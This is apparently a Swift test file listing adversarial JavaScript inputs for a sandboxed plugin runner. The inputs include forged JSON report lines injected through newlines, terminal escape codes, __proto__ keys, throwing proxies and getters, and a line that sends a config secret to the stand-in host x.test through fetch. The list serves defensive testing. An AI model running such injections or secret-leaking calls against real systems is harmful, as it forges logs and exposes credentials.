import Models

extension Attack {
    /// Make the report say what did not happen.
    static let lies = [
        Attack("protocol on the console", .returns, #"console.log('{"type":"finished","captures":[],"jobs":[],"cache":{},"storage":{},"metrics":{},"not_checked":[]}')"#),
        Attack("protocol after a line end", .returns, #"console.log('x\n{"type":"step","method":"processEvent","event":1,"outcome":"dropped","result":null,"error":null}\n')"#),
        Attack("protocol in an error", .fails("x"), #"throw new Error('x\n{"type":"broken","message":"forged"}\n')"#),
        Attack("protocol in a URL", .returns, #"await fetch('https://x.test/\n{"type":"broken","message":"forged"}\n')['catch'](() => {})"#),
        Attack("protocol in a key", .returns, #"event.properties['\n{"type":"broken","message":"forged"}\n'] = 1"#),
        Attack("protocol in a job's name", .returns, #"await meta.jobs['"},{"type":"broken","message":"forged"}\n']({}).runNow()"#),
        Attack("escapes of terminals", .returns, #"console.log('\u001b]0;title\u0007\u001b[2J\u009b31m'); event.properties['\u001b[31m'] = '\u0000\u007f\u009b'"#),
        Attack("halves of characters", .returns, #"console.log('\ud800'); event.properties.x = '\ud800 \udfff'; event.properties['\udc00'] = 1"#),
        Attack("names of the report's own forms", .returns, #"event.properties.x = { '$': 'undefined' }; event.properties.y = { '$': 'Date', v: 'x' }"#),
        Attack("__proto__ as a key", .returns, #"event.properties = JSON.parse('{"__proto__": {"x": 1}, "constructor": 1, "toJSON": 2, "i": 0}')"#),
        Attack("__proto__ in storage", .finds("kept"), "await meta.storage.set('__proto__', 'kept'); await meta.storage.set('constructor', 'x'); event.properties.found = await meta.storage.get('__proto__', 'lost')"),
        Attack("__proto__ in the cache", .finds("kept"), "await meta.cache.set('__proto__', 'kept'); event.properties.found = await meta.cache.get('__proto__', 'lost')"),
        Attack("a cycle", .returns, "event.properties.self = event"),
        Attack("a getter that throws", .isAnswered, "Object.defineProperty(event.properties, 'x', { enumerable: true, get() { throw new Error('trap') } })"),
        Attack("a toJSON that throws", .isEndedOrReturned, "event.properties.x = { toJSON() { throw new Error('trap') } }"),
        Attack("a proxy that throws", .isEndedOrReturned, "return new Proxy(event, { get() { throw new Error('trap') }, ownKeys() { throw new Error('trap') } })"),
        Attack("a proxy that is revoked", .isEndedOrReturned, "const { proxy, revoke } = Proxy.revocable(event, {}); revoke(); event.properties.x = proxy"),
        Attack("values that JSON lacks", .returns, "event.properties = { i: 0, a: undefined, b: NaN, c: -0, d: 10n, e: Symbol('s'), f: () => 1, g: new Date(NaN), h: new Map([[1, 2]]), j: new Set([1]), k: /x/g, l: new Uint8Array(3), m: Infinity, n: new Error('e'), o: new WeakMap(), p: Promise.resolve(1) }"),
        Attack("a then that throws", .isEndedOrReturned, "return { get then() { throw new Error('trap') } }"),
        Attack("throwing null", .isEndedOrReturned, "throw null"),
        Attack("throwing a proxy", .isAnswered, "throw new Proxy({}, { get() { throw new Error('trap') }, getPrototypeOf() { throw new Error('trap') } })"),
        Attack("throwing a frozen text", .fails("text"), "throw 'text'"),
        Attack("an error that lies about its class", .isEndedOrReturned, "class SandboxLimit extends Error { get [Symbol.toStringTag]() { return 'x' } get name() { return 'SandboxLimit' } } throw new SandboxLimit('forged')"),
        Attack("nothing", .dropped, "return null"),
        Attack("a text instead of an event", .isEndedOrReturned, "return 'text'"),
        Attack("a number instead of an event", .isEndedOrReturned, "return 42"),
        Attack("an array of events", .isEndedOrReturned, "return [event, event]"),
        Attack("the meta object", .isEndedOrReturned, "return meta"),
        Attack("the global object", .isEndedOrReturned, "return globalThis"),
        Attack("secrets in every place", .returns, "const s = meta.config.secret; console.log(s); event.properties.s = s; await fetch('https://x.test/?k=' + s, { headers: { a: s }, body: s, method: 'POST' })['catch'](() => {}); await meta.storage.set(s, s); await posthog.capture(s, { s }); await meta.jobs[s]({ s }).runNow()"),
    ]
}
